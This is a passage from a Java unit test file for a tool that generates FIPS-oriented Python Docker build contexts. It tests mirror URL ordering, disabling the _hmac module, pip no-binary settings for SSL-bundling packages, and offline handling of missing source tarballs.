        Plan plan = Specs.planner().plan(Specs.spec(null, List.of(Specs.cell("3.12.3", "debian12", "3.0.9", "3.0.9"))));
        new Generator().generate(plan, out, SourceProvider.deferred(List.of("file:///srv/mirror/", "https://nexus.example.com/raw/py", "upstream")),
                m -> { });
        String urls = Files.readString(out.resolve("3.12.3-debian12-openssl3.0.9/sources/URLS"));
        assertThat(urls).contains("Python-3.12.3.tar.xz file:/srv/mirror/Python-3.12.3.tar.xz "
                + "https://nexus.example.com/raw/py/Python-3.12.3.tar.xz https://www.python.org/ftp/python/3.12.3/Python-3.12.3.tar.xz\n");
        String upstreamOnly = Files.readString(generateDeferred(plan, tmp.resolve("plain")).resolve("3.12.3-debian12-openssl3.0.9/sources/URLS"));
        assertThat(upstreamOnly).contains("Python-3.12.3.tar.xz https://www.python.org/ftp/python/3.12.3/Python-3.12.3.tar.xz\n");
    }

    private static Path generateDeferred(Plan plan, Path out) throws Exception {
        new Generator().generate(plan, out, SourceProvider.deferred(), m -> { });
        return out;
    }

    @Test
    void aPython314ContextDropsHmacThroughSetupLocal() throws Exception {
        FipsSpec.Options o = FipsSpec.Options.builder().allowUnvalidatedProvider(true).build();
        Path out = tmp.resolve("fips");
        generate(new FipsSpec(null, List.of(Specs.cell("3.14.10", "debian13", "3.5.7", "3.5.7")), List.of(), null, Map.of(), o,
                List.of()), out);
        Path ctx = out.resolve("3.14.10-debian13-openssl3.5.7");
        assertThat(Files.readString(ctx.resolve("scripts/Setup.local"))).contains("*disabled*\n_hmac\n");
        assertThat(Files.readString(ctx.resolve("Dockerfile")))
                .contains("COPY scripts/build-python.sh scripts/openssl-build.cnf scripts/Setup.local /fips/scripts/\n");
        assertThat(Files.readString(ctx.resolve("env/python.commands"))).contains("cp /fips/scripts/Setup.local Modules/Setup.local\n");
        JsonNode python = new ObjectMapper().readTree(ctx.resolve("manifest.json").toFile()).path("python");
        assertThat(python.path("disabledModules").toString()).isEqualTo("[\"_hmac\"]");
        assertThat(python.path("builtinHashModules").toString()).isEqualTo("[]");
        // the conformance check that fails an image still carrying _hmac knows the module
        assertThat(Files.readString(ctx.resolve("conformance/conformance.py"))).contains("\"_blake2\", \"_hmac\"}");
    }

    @Test
    void everyImageTellsPipToBuildTheSslBundlingPackagesFromSource() throws Exception {
        Path out = tmp.resolve("fips");
        generate(Specs.spec(null, List.of(Specs.cell("3.12.3", "debian12", "3.0.9", "3.0.9"))), out);
        Path ctx = out.resolve("3.12.3-debian12-openssl3.0.9");
        assertThat(Catalog.builtIn().pipNoBinary()).contains("cryptography", "grpcio", "psycopg2-binary");
        assertThat(Files.readString(ctx.resolve("env/runtime.env")))
                .contains("PYFIPS_PIP_NO_BINARY='" + String.join(",", Catalog.builtIn().pipNoBinary()) + "'\n");
        assertThat(Files.readString(ctx.resolve("scripts/runtime-setup.sh"))).contains("cat > /etc/pip.conf <<EOF")
                .contains("no-binary = $PYFIPS_PIP_NO_BINARY");
        JsonNode manifest = new ObjectMapper().readTree(ctx.resolve("manifest.json").toFile());
        assertThat(manifest.path("pipNoBinary").toString()).isEqualTo(new ObjectMapper().writeValueAsString(Catalog.builtIn().pipNoBinary()));
    }

    @Test
    void everyUnavailableTarballIsNamedAtOnceAndNothingIsWritten() throws Exception {
        List<String> asked = new java.util.ArrayList<>();
        SourceProvider offline = new SourceProvider() {
            @Override
            public void prepare(Release release) throws FipsConfigException {
                asked.add(release.file());
                throw new FipsConfigException(new Problem("source " + release.file(), "is not in the local cache and -o forbids"
                        + " downloading it", "run once online, or point <mirrors> at a folder holding it"));
            }

            @Override
            public boolean place(Release release, Path target) {
                return false;
            }
        };
        Path out = tmp.resolve("fips");
        FipsConfigException e = org.assertj.core.api.Assertions.catchThrowableOfType(FipsConfigException.class,
                () -> new Generator().generate(Specs.planner().plan(Specs.seedMatrix()), out, offline, m -> { }));
        assertThat(e).isNotNull();
        // the seed matrix needs six tarballs: Python 3.11.9, 3.12.3, 3.9.19, OpenSSL 3.0.9, 1.0.2u, the FIPS Object Module
        assertThat(asked).hasSize(6).doesNotHaveDuplicates();
        assertThat(e.problems()).extracting(Problem::element).containsExactlyElementsOf(asked.stream().map(f -> "source " + f).toList());
        assertThat(out).doesNotExist();
    }

    private static JsonNode manifest(Path context) throws IOException {
        return new ObjectMapper().readTree(context.resolve("manifest.json").toFile());
    }
}
